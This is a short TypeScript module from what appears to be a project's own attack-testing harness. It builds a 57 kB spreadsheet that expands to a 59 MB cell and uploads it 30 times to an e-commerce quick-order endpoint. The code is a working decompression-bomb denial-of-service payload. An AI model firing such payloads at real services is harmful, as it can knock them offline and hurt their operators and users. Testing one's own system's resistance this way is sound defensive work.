import { writeWorkbook } from '#platform/spreadsheets/write-sheets.ts'
import { defineAttack } from '../attack/attack.ts'
import { sendMany } from '../attack/send.ts'

const CELL_CHARACTERS = 59_000_000

/** A list of materials of 57 kB whose one cell has 59 MB when it is unpacked. */
export const attackWorkbooks = defineAttack({
  name: 'attack-workbooks',
  title: '30 workbooks of 57 kB with a cell of 59 MB',
  async strike(target) {
    const rows = [['x'.repeat(CELL_CHARACTERS)]]
    const bytes = await writeWorkbook([{ name: 'RAB', rows }])
    await sendMany(target, 30, 30, () => {
      const body = new FormData()
      body.set('file', new File([bytes as BlobPart], 'rab.xlsx'))
      return { path: '/api/ecom/quick-order', method: 'POST', body }
    })
  },
})
